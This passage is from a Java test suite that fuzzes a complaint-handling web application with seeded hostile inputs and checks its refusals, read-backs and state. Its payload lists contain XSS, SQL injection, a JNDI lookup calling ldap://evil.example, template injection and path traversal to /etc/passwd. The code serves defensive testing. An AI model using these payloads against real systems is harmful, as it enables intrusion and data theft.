  private String intakeReadsBack(JsonNode sent, HttpResponse<String> created) {
    if (created.statusCode() != 201) {
      return "answered " + created.statusCode() + " instead of 201 Created";
    }
    JsonNode answer = Http.json(created);
    String reference = answer.path("reference").asText();
    Differences d = new Differences();
    String token = answer.path("accessToken").asText();
    d.same("reading with its own token", 200,
        http.get("/api/complaints/" + reference + "?token=" + encode(token)).statusCode());
    JsonNode view = Http.json(staff().get("/api/complaints/" + reference));
    d.same("status", "RECEIVED", text(view.path("status")));
    d.same("customer.id", stored(sent.at("/customer/id")), text(view.at("/staff/customer/id")));
    d.same("customer.name", stored(sent.at("/customer/name")), text(view.at("/staff/customer/name")));
    d.same("customer.email", stored(sent.at("/customer/email")), text(view.at("/staff/customer/email")));
    d.same("customer.phone", stored(sent.at("/customer/phone")), text(view.at("/staff/customer/phone")));
    d.same("customer.tier", stored(sent.at("/customer/tier")), text(view.at("/staff/customer/tier")));
    d.same("channel", stored(sent.at("/channel")), text(view.path("channel")));
    d.same("category", stored(sent.at("/category")), text(view.path("category")));
    d.same("subject", stored(sent.at("/subject")), text(view.path("subject")));
    d.same("description", stored(sent.at("/description")), text(view.path("description")));
    d.same("orderReference", stored(sent.at("/orderReference")), text(view.at("/staff/orderReference")));
    d.same("orderAmount", money(sent.at("/orderAmount")), money(view.at("/staff/orderAmount")));
    d.same("occurredAt", instant(stored(sent.at("/occurredAt"))), instant(text(view.at("/staff/occurredAt"))));
    withinLimits(d, view);
    return d.summary();
  }

  private String formReadsBack(FormBody form, HttpResponse<String> response) {
    String location = response.headers().firstValue("Location").orElse("");
    Matcher statusPage = STATUS_PAGE.matcher(location);
    if (response.statusCode() != 302 || !statusPage.find()) {
      return "answered " + response.statusCode() + " " + location + " instead of a redirect to the status page";
    }
    String reference = statusPage.group(1);
    Differences d = new Differences();
    d.same("reading with its own token", 200, http.get("/api/complaints/" + reference + "?token="
        + encode(URLDecoder.decode(statusPage.group(2), UTF_8))).statusCode());
    JsonNode view = Http.json(staff().get("/api/complaints/" + reference));
    // the page's rules: the e-mail address is the customer number unless one is given; web channel, standard tier
    String email = strippedOrNull(form.value("email"));
    String number = strippedOrNull(form.value("customerNumber"));
    String amount = strippedOrNull(form.value("orderAmount"));
    d.same("channel", "WEB", text(view.path("channel")));
    d.same("customer.tier", "STANDARD", text(view.at("/staff/customer/tier")));
    if (form.knows("email") && form.knows("customerNumber")) {
      d.same("customer.id", number != null ? number : email == null ? null : email.toLowerCase(),
          text(view.at("/staff/customer/id")));
    }
    form.expect(d, "email", email, text(view.at("/staff/customer/email")));
    form.expect(d, "name", strippedOrNull(form.value("name")), text(view.at("/staff/customer/name")));
    form.expect(d, "phone", strippedOrNull(form.value("phone")), text(view.at("/staff/customer/phone")));
    form.expect(d, "category", strippedOrNull(form.value("category")), text(view.path("category")));
    form.expect(d, "subject", strippedOrNull(form.value("subject")), text(view.path("subject")));
    form.expect(d, "description", strippedOrNull(form.value("description")), text(view.path("description")));
    form.expect(d, "orderReference", strippedOrNull(form.value("orderReference")),
        text(view.at("/staff/orderReference")));
    if (form.knows("orderCurrency")) {
      form.expect(d, "orderAmount", amount == null ? null : money(amount, form.value("orderCurrency")),
          money(view.at("/staff/orderAmount")));
    }
    form.expect(d, "occurredAt", localInstant(strippedOrNull(form.value("occurredAt"))),
        instant(text(view.at("/staff/occurredAt"))));
    withinLimits(d, view);
    return d.summary();
  }

  private static String sameComplaint(Created real, HttpResponse<String> found) {
    Differences d = new Differences();
    d.same("status code", 200, found.statusCode());
    JsonNode view = parse(found.body());
    d.same("reference", real.reference(), view == null ? null : text(view.path("reference")));
    d.check(view == null || !view.has("staff"), "a customer sees staff data");
    return d.summary();
  }

  private static String listMatches(Query query, HttpResponse<String> response) {
    Differences d = new Differences();
    d.same("status code", 200, response.statusCode());
    JsonNode page = parse(response.body());
    if (page == null || !page.path("items").isArray()) {
      return "answered no page: " + cut(response.body(), 200);
    }
    Integer size = integer(query.value("size"));
    int items = page.path("items").size();
    d.check(size == null || items <= size, items + " items on a page of " + size);
    // a filter that let other rows through would be an injection
    for (JsonNode item : page.path("items")) {
      d.matches("status", query.value("status"), text(item.path("status")));
      d.matches("severity", query.value("severity"), text(item.path("severity")));
      d.matches("category", query.value("category"), text(item.path("category")));
      d.matches("team", query.value("team"), text(item.at("/staff/handlerGroup")));
    }
    return d.summary();
  }

  private static String reportMatches(Query query, HttpResponse<String> response) {
    Differences d = new Differences();
    d.same("status code", 200, response.statusCode());
    JsonNode report = parse(response.body());
    if (report == null || !report.has("total")) {
      return "answered no report: " + cut(response.body(), 200);
    }
    d.same("from", query.value("from"), text(report.path("from")));
    d.same("to", query.value("to"), text(report.path("to")));
    return d.summary();
  }

  private static String awardRunReadsBack(Http committee, JsonNode sent, HttpResponse<String> created) {
    if (created.statusCode() != 201) {
      return "answered " + created.statusCode() + " instead of 201 Created";
    }
    String period = YearMonth.parse(sent.path("period").asText()).toString();
    String id = text(Http.json(created).path("id"));
    Differences d = new Differences();
    d.same("id", "AWARD-" + period, id);
    d.same("period", period, text(Http.json(committee.get("/api/award-runs/" + id)).path("period")));
    return d.summary();
  }

  private static String budgetReadsBack(Http finance, String team, String month, JsonNode sent,
      HttpResponse<String> saved) {
    if (saved.statusCode() != 200) {
      return "answered " + saved.statusCode() + " instead of 200";
    }
    // a date means its month (2026-11-23 is 2026-11)
    String expectedMonth = YearMonth.parse(month.length() == 10 ? month.substring(0, 7) : month).toString();
    JsonNode stored = Http.json(finance.get("/api/compensation/budgets/" + team + "/" + month));
    Differences d = new Differences();
    d.same("team", team, text(stored.path("team")));
    d.same("month", expectedMonth, text(stored.path("month")));
    d.same("amount", money(sent.path("amount")), money(stored.path("amount")));
    return d.summary();
  }

  private String handlingReadsBack(JsonNode sent, HttpResponse<String> completed) {
    try {
      if (completed.statusCode() != 204) {
        return "answered " + completed.statusCode() + " instead of 204 No Content";
      }
      Jobs.continueAfter(engine, handling.reference(), ComplaintHandlingProcess.TASK_HANDLE);
      JsonNode view = Http.json(staff().get("/api/complaints/" + handling.reference()));
      Differences d = new Differences();
      d.same("resolution", stored(sent.at("/variables/resolution/value")), text(view.at("/resolution/text")));
      d.same("rootCause", text(sent.at("/variables/rootCause/value")), text(view.at("/resolution/rootCause")));
      return d.summary();
    } finally {
      handling = openHandlingTask();
    }
  }

  /** What the intake keeps of a text field: stripped, a scalar's text (Jackson coerces it), nothing when blank. */
  private static String stored(JsonNode node) {
    String text = text(node);
    return text == null || text.isBlank() ? null : text.strip();
  }

  private static String text(JsonNode node) {
    return node == null || node.isMissingNode() || node.isNull() ? null : node.asText();
  }

  private static String strippedOrNull(String value) {
    return value == null || value.isBlank() ? null : value.strip();
  }

  private static String money(JsonNode money) {
    return money == null || money.isMissingNode() || money.isNull() ? null
        : money(stored(money.path("amount")), text(money.path("currency")));
  }

  /** An amount as stored (two decimals), or as sent when it is no number: then it differs from anything stored. */
  private static String money(String amount, String currency) {
    String decimal = amount;
    try {
      decimal = new BigDecimal(amount.strip()).setScale(2, RoundingMode.UNNECESSARY).toPlainString();
    } catch (RuntimeException notADecimal) {
      // compared as sent
    }
    return decimal + " " + currency;
  }

  /** A time with offset, or one without read in the business time zone (the validator's rule). */
  private Object instant(String time) {
    if (time == null) {
      return null;
    }
    try {
      return OffsetDateTime.parse(time).toInstant();
    } catch (RuntimeException withoutOffset) {
      return localInstant(time);
    }
  }

  /** The page's local date-time, read in the business time zone; anything else as the validator reads it. */
  private Object localInstant(String time) {
    if (time == null) {
      return null;
    }
    try {
      return LocalDateTime.parse(time).atZone(bean(AppClock.class).businessZone()).toInstant();
    } catch (RuntimeException notLocal) {
      try {
        return OffsetDateTime.parse(time).toInstant();
      } catch (RuntimeException notATime) {
        return time;
      }
    }
  }

  /** What was accepted must be legal too: a stored value beyond its limit means a refusal was missed. */
  private static void withinLimits(Differences d, JsonNode view) {
    d.within("subject", text(view.path("subject")), 1, 200);
    d.within("description", text(view.path("description")), 1, 10_000);
    d.within("customer.id", text(view.at("/staff/customer/id")), 1, 64);
    d.within("customer.name", text(view.at("/staff/customer/name")), 1, 200);
    d.within("customer.phone", text(view.at("/staff/customer/phone")), 0, 40);
    d.within("orderReference", text(view.at("/staff/orderReference")), 0, 64);
  }

  private static Integer integer(String value) {
    try {
      return value == null ? null : Integer.decode(value.strip());
    } catch (NumberFormatException e) {
      return null;
    }
  }

  /** Collects what did not read back as sent. */
  private static final class Differences {

    private final List<String> found = new ArrayList<>();

    void same(String field, Object sent, Object stored) {
      if (!Objects.equals(sent, stored)) {
        found.add(field + " sent " + preview(String.valueOf(sent)) + " reads " + preview(String.valueOf(stored)));
      }
    }

    /** Only when a filter was given: the row must match it. */
    void matches(String filter, String value, String actual) {
      if (value != null && !value.isBlank() && !value.equals(actual)) {
        found.add("a row with " + filter + " " + preview(String.valueOf(actual)) + " passed the filter "
            + preview(value));
      }
    }

    void within(String field, String value, int min, int max) {
      int length = value == null ? 0 : value.length();
      check(length >= min && length <= max, field + " holds " + length + " characters, allowed " + min + " to " + max);
    }

    void check(boolean holds, String problem) {
      if (!holds) {
        found.add(problem);
      }
    }

    String summary() {
      return found.isEmpty() ? null : String.join("; ", found);
    }
  }

  // ---------------------------------------------------------------------------------- the campaign

  /** What a proper refusal looks like where the input went. */
  private enum Shape {
    /** problem+json naming the problem. */
    API_BODY,
    /**
     * As {@link #API_BODY}; a URL the servlet container or Spring Security's firewall refuses
     * (encoded slashes, "..", too long) never reaches the application, so its plain 400 or 404 is
     * counted apart.
     */
    API_URL,
    /** A 4xx; when it shows the form again, with the refusal message. */
    PAGE,
    /** Camunda engine REST: 400 with its JSON error and a message. */
    ENGINE
  }

  /** One endpoint's campaign: outcome counts, every failure with its input, the summary line. */
  private final class Campaign {

    private final String endpoint;
    private final long seed;
    private final int maxAccepted;
    private final Supplier<Map<String, Object>> endpointState;
    private final List<String> failures = new ArrayList<>();
    private int tried;
    private int refused;
    private int accepted;
    private int refusedOutside;
    private int serverErrors;
    private Map<String, Object> before;

    Campaign(String endpoint, long seed, int maxAccepted, Supplier<Map<String, Object>> endpointState) {
      this.endpoint = endpoint;
      this.seed = seed;
      this.maxAccepted = maxAccepted;
      this.endpointState = endpointState;
      this.before = state();
    }

    /** Whether the generator may still offer legal inputs: each accepted one creates something. */
    boolean mayAccept() {
      return accepted < maxAccepted;
    }

    void judge(String input, HttpResponse<String> response, Shape shape,
        Function<HttpResponse<String>, String> readBack) {
      tried++;
      int status = response.statusCode();
      if (status >= 500) {
        serverErrors++;
        fail(input, "answered " + status + ": " + cut(response.body(), 300));
        expectUnchanged(input, "answered " + status);
      } else if (status >= 400 || shape == Shape.PAGE && status == 200 && PAGE_REFUSAL.matcher(response.body()).find()) {
        refused++;
        String problem = refusalProblem(response, shape);
        if (problem != null) {
          fail(input, problem);
        }
        expectUnchanged(input, "refused with " + status);
      } else {
        accepted++;
        String difference;
        try {
          difference = readBack.apply(response);
        } catch (RuntimeException | AssertionError e) {
          difference = "reading it back failed: " + e;
        }
        if (difference != null) {
          fail(input, "accepted with " + status + " but " + difference);
        }
        before = state();
      }
    }

    private String refusalProblem(HttpResponse<String> response, Shape shape) {
      int status = response.statusCode();
      String body = response.body();
      if (shape == Shape.PAGE) {
        return (status == 200 || body.contains("<form")) && !PAGE_REFUSAL.matcher(body).find()
            ? "showed the form again without saying what is wrong" : null;
      }
      if (shape == Shape.ENGINE) {
        JsonNode error = parse(body);
        if (status != 400) {
          return "answered " + status + " instead of 400: " + cut(body, 300);
        }
        boolean named = error != null && !error.path("message").asText("").isBlank();
        return named ? null : "names no problem: " + cut(body, 300);
      }
      String type = response.headers().firstValue("Content-Type").orElse("");
      if (type.startsWith("application/problem+json")) {
        JsonNode problem = parse(body);
        boolean named = problem != null
            && (!problem.path("detail").asText("").isBlank() || problem.path("errors").size() > 0);
        return named ? null : "a problem that names no problem: " + cut(body, 300);
      }
      if (shape == Shape.API_URL && (status == 400 || status == 404)) {
        refusedOutside++;
        return null;
      }
      return "answered " + status + " " + type + " instead of application/problem+json: " + cut(body, 300);
    }

    private Map<String, Object> state() {
      Map<String, Object> state = snapshot();
      state.putAll(endpointState.get());
      return state;
    }

    private void expectUnchanged(String input, String outcome) {
      Map<String, Object> after = state();
      if (!after.equals(before)) {
        List<String> changed = new ArrayList<>();
        after.forEach((what, now) -> {
          if (!Objects.equals(before.get(what), now)) {
            changed.add(what + " " + cut(String.valueOf(before.get(what)), 120) + " -> "
                + cut(String.valueOf(now), 120));
          }
        });
        fail(input, outcome + " but changed " + String.join(", ", changed));
      }
      before = after;
    }

    private void fail(String input, String problem) {
      failures.add("#" + tried + " " + cut(printable(input), 300) + "\n      => " + printable(problem));
    }

    void finish() throws IOException {
      Files.createDirectories(SUMMARY.getParent());
      if (Files.notExists(SUMMARY)) {
        Files.writeString(SUMMARY, "| endpoint | seed | inputs | refused | accepted | refused before the application"
            + " | 5xx | failures |\n|---|---|---|---|---|---|---|---|\n");
      }
      Files.writeString(SUMMARY, "| %s | %d | %d | %d | %d | %d | %d | %d |%n".formatted(endpoint, seed, tried,
          refused, accepted, refusedOutside, serverErrors, failures.size()), StandardOpenOption.APPEND);
      if (!failures.isEmpty()) {
        throw new AssertionError("%d of %d hostile inputs to %s failed (seed %d, -Dhostile.seed=%d), the first %d:%n%s"
            .formatted(failures.size(), tried, endpoint, seed, SEED, Math.min(25, failures.size()),
                String.join("\n", failures.subList(0, Math.min(25, failures.size())))));
      }
    }
  }

  // ------------------------------------------------------------------------------------ the wire

  /** Sends bytes as they are ({@link Http} sends text): invalid UTF-8 must reach the server unrepaired. */
  private HttpResponse<String> send(String method, String path, String contentType, byte[] body, String user,
      String accept, List<String> headers) {
    HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
        .timeout(Duration.ofSeconds(60)).method(method, HttpRequest.BodyPublishers.ofByteArray(body))
        .header("Content-Type", contentType).header("Accept", accept);
    if (user != null) {
      request.header("Authorization", "Basic "
          + Base64.getEncoder().encodeToString((user + ":" + TestUsers.PASSWORD).getBytes(UTF_8)));
    }
    for (int i = 0; i < headers.size(); i += 2) {
      request.header(headers.get(i), headers.get(i + 1));
    }
    return Http.send(RAW, request.build());
  }

  private static String encode(String value) {
    return URLEncoder.encode(value, UTF_8);
  }

  private static JsonNode parse(String body) {
    try {
      return JSON.readTree(body);
    } catch (JsonProcessingException e) {
      return null;
    }
  }

  private static String cut(String text, int max) {
    return text == null || text.length() <= max ? text : text.substring(0, max) + "…";
  }

  private static String preview(String text) {
    return text.length() <= 60 ? text : text.substring(0, 30) + "…(" + text.length() + " chars)";
  }

  /** Control, format and surrogate characters as escapes, so a failure message shows what was sent. */
  private static String printable(String text) {
    StringBuilder out = new StringBuilder(text.length());
    for (char c : text.toCharArray()) {
      boolean invisible = Character.isISOControl(c) && c != '\n' || Character.getType(c) == Character.FORMAT
          || Character.isSurrogate(c);
      out.append(invisible ? "\\u%04x".formatted((int) c) : String.valueOf(c));
    }
    return out.toString();
  }

  // ---------------------------------------------------------------------------------- the generator

  /** What a field holds, so that a mutation can break it for sure or keep it legal. */
  enum Kind {
    TEXT, OPTIONAL_TEXT, ENUM, EMAIL, AMOUNT, DECIMAL, CURRENCY, CNY, TIME, MONTH, TOKEN, KEY, SCORE, OBJECT,
    OPTIONAL_OBJECT
  }

  /** A field by its dotted path in the body, with its kind and, for text, its longest legal length. */
  record Field(String path, Kind kind, int max) {
  }

  /** A value to put into a JSON body: a node, raw JSON text no tree can hold, or nothing at all. */
  record Value(JsonNode node, String raw, String label) {

    static Value of(JsonNode node) {
      return new Value(node, null, preview(node.toString()));
    }

    static Value text(String text) {
      return of(TextNode.valueOf(text));
    }

    static Value raw(String json) {
      return new Value(null, json, preview(json));
    }

    static Value missing() {
      return new Value(null, null, "(left out)");
    }

    static Value nothing() {
      return of(NullNode.getInstance());
    }
  }

  /** A request body as sent, with what was done to it, for the report. */
  abstract static class Body {

    protected final List<String> mutations = new ArrayList<>();
    protected String contentType;
    protected String whole;
    protected byte[] badBytes;
    private byte[] bytes;

    Body(String contentType) {
      this.contentType = contentType;
    }

    void note(String mutation) {
      mutations.add(mutation);
    }

    String contentType() {
      return contentType;
    }

    void contentType(String type) {
      contentType = type;
      note("Content-Type " + type);
    }

    void replaceWhole(String body) {
      whole = body;
      note("whole body " + preview(body));
    }

    byte[] bytes() {
      if (bytes == null) {
        bytes = whole != null ? whole.getBytes(UTF_8) : render();
      }
      return bytes;
    }

    String describe() {
      return String.join(", ", mutations) + " | " + new String(bytes(), UTF_8);
    }

    /** The body with its mutations, unless it was replaced whole. */
    abstract byte[] render();
  }

  /**
   * A JSON body: a tree plus what no tree can hold (invalid tokens, thousands of nested arrays,
   * bytes that are no UTF-8, a cut-off end, another content type), with the mutations that made it.
   */
  static final class JsonBody extends Body {

    private static final String BYTES_MARKER = "@@bytes@@";
    private static final ObjectMapper PLAIN = new ObjectMapper();
    private static final ObjectMapper ESCAPING =
        JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();

    private final ObjectNode tree;
    private final boolean escapeNonAscii;
    private final Map<String, String> raw = new LinkedHashMap<>();
    private Double cutAt;

    JsonBody(ObjectNode tree, boolean escapeNonAscii) {
      super(JSON_TYPE);
      this.tree = tree;
      this.escapeNonAscii = escapeNonAscii;
    }

    ObjectNode tree() {
      return tree;
    }

    JsonNode node(String path) {
      ObjectNode parent = parent(path);
      return parent == null ? null : parent.get(last(path));
    }

    boolean has(String path) {
      return parent(path) != null;
    }

    /** False when the field's parent is gone (left out or replaced by an earlier mutation). */
    boolean set(String path, Value value) {
      ObjectNode parent = parent(path);
      if (parent == null) {
        return false;
      }
      String name = last(path);
      if (value.node() == null && value.raw() == null) {
        parent.remove(name);
      } else if (value.raw() != null) {
        String marker = "@@raw" + raw.size() + "@@";
        raw.put(marker, value.raw());
        parent.put(name, marker);
      } else {
        parent.set(name, value.node());
      }
      note(printable(path) + "=" + value.label());
      return true;
    }

    void badBytes(String path, byte[] bad) {
      if (set(path, Value.text("ok" + BYTES_MARKER + "ok"))) {
        badBytes = bad;
        note("bytes " + hex(bad) + " in " + path);
      }
    }

    void cut(double share) {
      cutAt = share;
      note("cut off at " + Math.round(share * 100) + "%");
    }

    @Override
    byte[] render() {
      String json = write(escapeNonAscii ? ESCAPING : PLAIN);
      if (!escapeNonAscii && hasLoneSurrogate(json)) {
        json = write(ESCAPING); // UTF-8 cannot carry a lone surrogate, a JSON escape can
      }
      for (Map.Entry<String, String> piece : raw.entrySet()) {
        json = json.replace("\"" + piece.getKey() + "\"", piece.getValue());
      }
      byte[] out = json.getBytes(UTF_8);
      if (badBytes != null) {
        out = replace(out, BYTES_MARKER.getBytes(UTF_8), badBytes);
      }
      return cutAt == null ? out : Arrays.copyOf(out, (int) (cutAt * (out.length - 1)));
    }

    private String write(ObjectMapper mapper) {
      try {
        return mapper.writeValueAsString(tree);
      } catch (JsonProcessingException e) {
        throw new IllegalStateException(e);
      }
    }

    private ObjectNode parent(String path) {
      String[] names = path.split("\\.", -1);
      JsonNode node = tree;
      for (int i = 0; i < names.length - 1; i++) {
        if (!(node instanceof ObjectNode)) {
          return null;
        }
        node = node.get(names[i]);
      }
      return node instanceof ObjectNode object ? object : null;
    }

    private static String last(String path) {
      String[] names = path.split("\\.", -1);
      return names[names.length - 1];
    }

    private static boolean hasLoneSurrogate(String text) {
      for (int i = 0; i < text.length(); i++) {
        char c = text.charAt(i);
        boolean pairedHigh = i + 1 < text.length() && Character.isLowSurrogate(text.charAt(i + 1));
        if (Character.isHighSurrogate(c) && !pairedHigh) {
          return true;
        }
        if (Character.isLowSurrogate(c) && (i == 0 || !Character.isHighSurrogate(text.charAt(i - 1)))) {
          return true;
        }
      }
      return false;
    }

    private static byte[] replace(byte[] in, byte[] target, byte[] with) {
      for (int i = 0; i + target.length <= in.length; i++) {
        if (Arrays.equals(in, i, i + target.length, target, 0, target.length)) {
          ByteArrayOutputStream out = new ByteArrayOutputStream();
          out.write(in, 0, i);
          out.writeBytes(with);
          out.write(in, i + target.length, in.length - i - target.length);
          return out.toByteArray();
        }
      }
      return in;
    }
  }

  /** A urlencoded form as a browser sends it, plus what no browser sends. */
  static final class FormBody extends Body {

    private final Map<String, String> fields;
    private final List<String> extras = new ArrayList<>();
    private String badField;

    FormBody(Map<String, String> valid) {
      super(FORM);
      fields = new LinkedHashMap<>(valid);
    }

    String value(String name) {
      return fields.get(name);
    }

    /** Null leaves the field out. */
    void set(String name, String value) {
      fields.put(name, value);
      mutations.add(name + "=" + (value == null ? "(left out)" : preview(value)));
    }

    void extra(String name, String value) {
      extras.add(encode(name) + "=" + encode(value));
      mutations.add("extra " + preview(name) + "=" + preview(value));
    }

    void badBytes(String name, byte[] bad) {
      badField = name;
      badBytes = bad;
      mutations.add("bytes " + hex(bad) + " after " + name);
    }

    /** False for a field whose bytes were broken: what the server makes of them is its own business. */
    boolean knows(String name) {
      return !name.equals(badField);
    }

    void expect(Differences d, String name, Object sent, Object stored) {
      if (knows(name)) {
        d.same(name, sent, stored);
      }
    }

    @Override
    byte[] render() {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      List<String> pairs = new ArrayList<>();
      fields.forEach((name, value) -> {
        if (value != null) {
          pairs.add(name);
        }
      });
      for (int i = 0; i < pairs.size(); i++) {
        String name = pairs.get(i);
        out.writeBytes(((i == 0 ? "" : "&") + encode(name) + "=" + encode(fields.get(name))).getBytes(UTF_8));
        if (name.equals(badField)) {
          out.writeBytes(badBytes);
        }
      }
      extras.forEach(pair -> out.writeBytes(("&" + pair).getBytes(UTF_8)));
      return out.toByteArray();
    }
  }

  /** A query string: pairs as they go on the wire, and the value of each parameter sent once and encoded. */
  static final class Query {

    private final List<String[]> pairs = new ArrayList<>();
    private final Map<String, String> values = new LinkedHashMap<>();
    private final List<String> mutations = new ArrayList<>();

    Query(Map<String, String> base) {
      base.forEach(this::put);
    }

    String value(String name) {
      return values.get(name);
    }

    void set(String name, String value) {
      put(name, value);
      mutations.add(printable(name) + "=" + preview(value));
    }

    void twice(String name, String first, String second) {
      remove(name);
      pairs.add(new String[] {name, encode(name) + "=" + encode(first)});
      pairs.add(new String[] {name, encode(name) + "=" + encode(second)});
      mutations.add(name + " twice: " + first + ", " + second);
    }

    /** A value that is not, or not validly, percent-encoded. */
    void raw(String name, String encoded) {
      remove(name);
      pairs.add(new String[] {name, encode(name) + "=" + encoded});
      mutations.add(name + " raw " + encoded);
    }

    void leaveOut(String name) {
      remove(name);
      mutations.add(name + " left out");
    }

    String describe() {
      return mutations + " ?" + this;
    }

    @Override
    public String toString() {
      return pairs.stream().map(pair -> pair[1]).collect(Collectors.joining("&"));
    }

    private void put(String name, String value) {
      remove(name);
      pairs.add(new String[] {name, encode(name) + "=" + encode(value)});
      values.put(name, value);
    }

    private void remove(String name) {
      pairs.removeIf(pair -> pair[0].equals(name));
      values.remove(name);
    }
  }

  private static String hex(byte[] bytes) {
    StringBuilder hex = new StringBuilder();
    for (byte b : bytes) {
      hex.append("%02X ".formatted(b & 0xFF));
    }
    return hex.toString().strip();
  }

  /**
   * Hostile values and mutations from one seeded {@link Random}: the same seed replays the same
   * campaign. "Breaking" values are refused by the contract for sure; "legal" ones are hostile
   * but allowed, and must then be stored exactly.
   */
  static final class Hostile {

    /** Hostile but legal text: markup, SQL, template and lookup syntax, control and bidi characters, other scripts. */
    static final List<String> LEGAL_TEXT = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "' OR 1=1 --", "'; DROP TABLE complaint; --", "${jndi:ldap://evil.example/a}", "{{7*7}} #{7*7} %s%n",
        "nul\u0000byte", "bell\u0007", "esc\u001b[31mred", "\u202egnp.exe", "花瓶在清洁时被打碎了", "🙂🔥💥👍🏽",
        "Z\u0351\u0364a\u0352l\u0363g\u0350o", "line\r\nbreak", "../../etc/passwd", "null", "-1", "💩".repeat(20));
    static final List<String> BLANKS = List.of("", " ", "\t\n", "\u001f\u001e");
    static final List<String> NOT_AN_ENUM = List.of("DIAMOND", "gold", "Web", "FAX", "ALIENS", "' OR 1=1 --",
        "<script>alert(1)</script>", "GOLD\u0000", "GO\u200bLD", "ＧＯＬＤ", "GOLD,SILVER", "0", "null", "\u202eDLOG");
    static final List<String> BAD_EMAILS = List.of("not-an-email", "a@b", "@example.com", "li.wei@",
        "li wei@example.com", "a@b@example.com", "<script>@x", "' OR 1=1 --@x", "a@b.", "a@b.c\u0000 d");
    static final List<String> LEGAL_EMAILS = List.of("a+tag@example.com", "o'brien@example.com", "li.wei@例子.公司",
        "<script>alert(1)</script>@example.com", "\"quoted\"@example.com");
    static final List<String> BAD_AMOUNTS = List.of("-1", "-0.01", "-0", "NaN", "Infinity", "-Infinity", "1e400",
        "1E+2", "8,00", "0.001", "1234567890123456", "0x10", "١٢٣", "1 000", "800.", ".5", "+800", "800.00.00",
        "' OR 1=1 --", "<script>");
    static final List<String> ODD_AMOUNTS = List.of("0", "0.00", "999999999999999.99", " 800.00 ", "007.5");
    /** JSON numbers: negative, too precise, beyond any double, longer than parsers allow, or no JSON at all. */
    static final List<String> BAD_NUMBERS = List.of("-1", "1e400", "12.345", "123456789012345678901234567890", "NaN",
        "Infinity", "-Infinity", "0x10", "9".repeat(1_500));
    static final List<String> BAD_DECIMALS = List.of("-1", "NaN", "Infinity", "1e400", "8,00", "0.001",
        "1234567890123456", "0x10", "' OR 1=1 --", "");
    static final List<String> ODD_DECIMALS = List.of("0", "0.1", "1E+2", "999999999999999.99");
    static final List<String> BAD_CURRENCIES = List.of("XYZ", "cny", "CNYY", "元", "C\u0000Y", "' OR 1=1 --",
        "<script>", "");
    static final List<String> ODD_CURRENCIES = List.of("XXX", "XTS", "JPY");
    static final List<String> NOT_CNY = List.of("EUR", "cny", "XYZ", "' OR 1=1 --", "", "C N Y");
    static final List<String> BAD_TIMES = List.of("2026-13-45T10:00:00+08:00", "2026-02-30T10:00:00+08:00",
        "+999999999-12-31T23:59:59Z", "9999-12-31T23:59:59Z", "2099-01-01T00:00:00+08:00", "yesterday",
        "2026-11-20T25:61:00+08:00", "2026-11-20T10:15:00+25:00", "1e400", "' OR 1=1 --", "2026-13-45",
        "2026-11-20 10:15", "20261120T101500Z", "0");
    static final List<String> ODD_TIMES = List.of("0000-01-01T00:00:00Z", "-999999999-01-01T00:00:00Z",
        "1970-01-01T00:00:00Z", "2020-02-29T23:59:59.999999+14:00", "2026-01-01T00:00", "2026-11-20T10:15:00-12:00");
    /** YearMonth.parse's edge: far years take a sign, and the current or a future month is not over. */
    static final List<String> BAD_MONTHS = List.of("2026-13", "2026-00", "0000-00", "26-11", "2026/11", "November",
        "2026-1", "2026-11-01", " 2019-01", "-0001-01", "-10000-01", "-999999999-01", "+10000-01", "+999999999-12",
        "2026-11", "2099-12", "' OR 1=1 --", "<script>", "1e400", "");
    static final List<String> BAD_BUDGET_MONTHS = List.of("1901-13", "1901-00", "November", "1901-1", "-10000-01",
        "+10000-01", "-999999999-01", "+999999999-12", "0000-01", "' OR 1=1 --", "<script>", "..", "1901-01-0x");
    static final List<String> LEGAL_BUDGET_MONTHS = List.of("1901-01-99", "1234-05", "0999-12-31", "1901-06-15");
    static final List<String> BAD_DAYS = List.of("2026-13-45", "2026-02-30", "0000-01-01", "1999-12-31", "2200-01-01",
        "+999999999-12-31", "2026-10-01T00:00:00+08:00", "yesterday", "' OR 1=1 --", "<script>alert(1)</script>",
        "1e400", "２０２６-１０-０１", "");
    static final List<String[]> LEGAL_PERIODS = List.of(new String[] {"2000-01-01", "2000-12-31"},
        new String[] {"2199-12-31", "2199-12-31"}, new String[] {"2026-11-23", "2026-11-23"},
        new String[] {"2024-02-29", "2025-02-28"});
    static final List<String> BAD_LIST_TIMES = List.of("2026-13-45", "2026-02-30", "2026-11-20T10:15", "yesterday",
        "' OR 1=1 --", "1e400", "+999999999-12-31", "２０２６-１１-０１");
    static final List<String> LEGAL_LIST_TIMES = List.of("0000-01-01", "9999-12-31", "+999999999-12-31T23:59:59Z",
        "-999999999-01-01T00:00:00Z", "2026-11-20T10:15:00+08:00", "2026-11-01", "");
    static final List<String> BAD_PAGES = List.of("-1", "NaN", "2147483648", "1e3", "1.5", "' OR 1=1 --", "--1",
        "1_000");
    static final List<String> LEGAL_PAGES = List.of("0", "1", "2147483647", "0x10", "+1", "");
    static final List<String> BAD_SIZES = List.of("0", "101", "-5", "NaN", "99999999999", "1e2", "0x65");
    static final List<String> LEGAL_SIZES = List.of("1", "100", "0x10", "", " 7");
    /** Path pieces that are legal in a URI as they are: traversal, encoded separators, double encoding, bad UTF-8. */
    static final List<String> TRAVERSALS = List.of("../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f",
        "%2e%2e/%2e%2e/etc/passwd", "CMP-2026-000001/../x", "CMP-2026-000001%2F..%2Fx", "..", ".", "x;jsessionid=1",
        "%252e%252e%252f", "..%5C..%5Cwindows", "%00", "x%00y", "%FF%FE", "%C3%28", "x//y", "%E2%80%AE");
    static final List<String> RAW_INVALID_ENCODINGS = List.of("%FF%FE", "%C3%28", "%C0%AE", "%E2%82");
    static final List<String> EXTRA_NAMES = List.of("__proto__", "constructor", "$where", "status", "reference",
        "accessToken", "admin", "recordedBy", "handlerGroup", "x-unknown", "中文", "\u0000", "",
        "<script>alert(1)</script>");
    /** Parameters no endpoint knows, some an injection would like to find. */
    static final List<String> QUERY_EXTRA_NAMES = List.of("__proto__", "$where", "admin", "x-unknown", "sort",
        "limit", "offset", "中文", "\u0000", "", "<script>alert(1)</script>");
    /** Parameter names no browser sends: control characters, binder paths, prototype pollution. */
